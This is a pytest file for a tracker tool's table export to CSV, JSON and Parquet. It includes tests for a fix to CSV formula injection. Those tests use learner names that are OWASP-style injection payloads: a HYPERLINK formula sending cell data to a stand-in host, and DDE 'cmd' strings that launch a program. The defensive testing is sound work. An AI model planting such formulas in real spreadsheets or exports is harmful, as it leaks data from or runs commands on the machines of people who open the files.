"""``tracker export``: the criteria and learners tables as CSV, JSON and Parquet, read by pandas."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

import pandas as pd
import pytest
from test_centre_sample import Item, drop, edit, items, make_centre, roll, sheet_dicts, signed_ref

from tracker.centre import master as M
from tracker.centre.export_tables import export
from tracker.centre.folder import Centre
from tracker.errors import UsageError


@pytest.fixture(scope="module")
def centre(tmp_path_factory: pytest.TempPathFactory) -> tuple[Centre, list[Item]]:
    c = make_centre(tmp_path_factory.mktemp("export") / "centre")
    batch = items(5)
    drop(c, batch)
    roll(c)
    q, s, rec = batch[1]
    drop(c, [(q, s, edit(rec, signed_ref(rec), decision="Not yet met"))], names=["conflict.xlsx"])
    roll(c)
    return c, batch


def _read(path: Path, fmt: str) -> pd.DataFrame:
    if fmt == "csv":
        return pd.read_csv(path, dtype={"uln": str}, keep_default_na=False, na_values=[""])
    if fmt == "json":
        return pd.read_json(path, dtype={"uln": str})
    return pd.read_parquet(path)


@pytest.mark.parametrize("fmt", ["csv", "json", "parquet"])
def test_export_matches_the_master(centre: tuple[Centre, list[Item]], fmt: str, tmp_path: Path) -> None:
    c, batch = centre
    paths = export(c, fmt, tmp_path / fmt)
    assert [p.name for p in paths] == [f"criteria.{fmt}", f"learners.{fmt}"]
    crit = _read(paths[0], fmt)
    learners = _read(paths[1], fmt)
    assert list(crit.columns) == [col.key for col in M.CRITERIA_COLUMNS] + ["extra"]  # then the added columns
    assert list(learners.columns) == [col.key for col in M.LEARNER_COLUMNS]
    assert len(crit) == sum(q.criterion_count() for q, _s, _r in batch)
    assert sorted(learners["uln"]) == sorted(s.learner.uln for _q, s, _r in batch)
    master = sheet_dicts(c.master, "Criteria")
    header_of = {col.key: col.header for col in M.CRITERIA_COLUMNS}
    for i in (0, 7, len(master) - 1):
        for key in ("uln", "ref", "decision", "assessor", "required", "conflict"):
            want = master[i][header_of[key]]
            got = crit.iloc[i][key]
            assert (pd.isna(got) and want is None) or str(got) == str(want), (key, got, want)
        want_date = master[i][header_of["assessor_date"]]
        got_date = crit.iloc[i]["assessor_date"]
        assert (want_date is None and pd.isna(got_date)) or pd.Timestamp(got_date).date() == want_date.date()
    assert (crit["conflict"] == "Open").sum() == 1
    percent = dict(zip(learners["uln"], learners["percent"]))
    for row in sheet_dicts(c.master, "Learners"):
        assert percent[row["ULN"]] == pytest.approx(row["% complete"], abs=1e-6)


def test_parquet_columns_are_typed(centre: tuple[Centre, list[Item]], tmp_path: Path) -> None:
    import pyarrow.parquet as pq

    c, _ = centre
    export(c, "parquet", tmp_path)
    schema = pq.read_schema(tmp_path / "criteria.parquet")
    assert str(schema.field("assessor_date").type) == "date32[day]"
    assert str(schema.field("unit").type) == "int64"
    assert str(schema.field("received").type).startswith("timestamp")
    schema = pq.read_schema(tmp_path / "learners.parquet")
    assert str(schema.field("percent").type) == "double"
    assert str(schema.field("units_complete").type) == "int64"


def test_default_folder_and_bad_arguments(centre: tuple[Centre, list[Item]], tmp_path: Path) -> None:
    c, _ = centre
    paths = export(c, "json")
    assert paths[0].parent == c.path("export")
    data = json.loads(paths[1].read_text(encoding="utf-8"))
    assert isinstance(data, list) and {"uln", "percent", "status"} <= set(data[0])
    with pytest.raises(UsageError):
        export(c, "xlsx")
    f = tmp_path / "a-file"
    f.write_text("x")
    with pytest.raises(UsageError):
        export(c, "csv", f)


def test_export_through_the_command_line(centre: tuple[Centre, list[Item]], tmp_path: Path) -> None:
    c, batch = centre
    out = tmp_path / "out"
    proc = subprocess.run([sys.executable, "-m", "tracker", "export", str(c.root), "--format", "csv", "-o", str(out)],
                          capture_output=True, text=True, timeout=120)
    assert proc.returncode == 0, proc.stderr
    assert proc.stdout.split() == [str(out / "criteria.csv"), str(out / "learners.csv")]
    assert len(pd.read_csv(out / "learners.csv")) == len(batch)
    bad = subprocess.run([sys.executable, "-m", "tracker", "export", str(c.root), "--format", "xls"],
                         capture_output=True, text=True, timeout=120)
    assert bad.returncode == 2


# -- CSV injection (issue 12) ---------------------------------------------------------------------

# Learner names that a spreadsheet would run if a CSV cell began with them (OWASP CSV injection).
INJECTED = ['=HYPERLINK("http://example.invalid/?"&A1,"Click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0"]


@pytest.fixture(scope="module")
def injected(tmp_path_factory: pytest.TempPathFactory) -> Centre:
    import dataclasses

    c = make_centre(tmp_path_factory.mktemp("inject") / "centre")
    batch = []
    for name, (q, s, rec) in zip([*INJECTED, "Ann Smith"], items(5, seed=12)):
        batch.append((q, s, dataclasses.replace(rec, learner=dataclasses.replace(rec.learner, name=name))))
    drop(c, batch)
    roll(c)
    return c


def _csv_rows(path: Path) -> list[dict[str, str]]:
    import csv

    with open(path, encoding="utf-8", newline="") as f:
        return list(csv.DictReader(f))


def test_csv_defuses_formula_text_and_raw_keeps_it(injected: Centre, tmp_path: Path) -> None:
    # The oracle is the csv module reading the bytes back: a defused cell is the name with one
    # leading apostrophe, a harmless name is unchanged, numbers are unchanged; --raw is exact.
    safe = {r["name"] for r in _csv_rows(export(injected, "csv", tmp_path / "safe")[1])}
    assert safe == {"'" + n for n in INJECTED} | {"Ann Smith"}
    raw = _csv_rows(export(injected, "csv", tmp_path / "raw", raw=True)[1])
    assert {r["name"] for r in raw} == {*INJECTED, "Ann Smith"}
    crit = _csv_rows(export(injected, "csv", tmp_path / "safe2")[0])
    assert {r["name"] for r in crit} == safe
    assert all(not r["unit"].startswith("'") and r["unit"].isdigit() for r in crit)


def test_defuse_prefixes_exactly_the_formula_starts() -> None:
    from tracker.centre.export_tables import defuse

    for text in ("=1+1", "+1", "-1", "@x", "\tx", "\rx"):
        assert defuse(text) == "'" + text
    for value in ("1-1", " =x", "a=b", "'=x", "", -5, -2.5, 0):
        assert defuse(value) == value  # numbers are data, never prefixed; inner '=' is harmless


def test_export_cli_raw_flag(injected: Centre, tmp_path: Path) -> None:
    for flag, expected in (([], "'" + INJECTED[0]), (["--raw"], INJECTED[0])):
        out = tmp_path / (flag[0][2:] if flag else "default")
        r = subprocess.run([sys.executable, "-m", "tracker", "export", str(injected.root), "--format", "csv",
                            "-o", str(out), *flag], capture_output=True, text=True, timeout=120)
        assert r.returncode == 0, r.stderr
        assert expected in {row["name"] for row in _csv_rows(out / "learners.csv")}
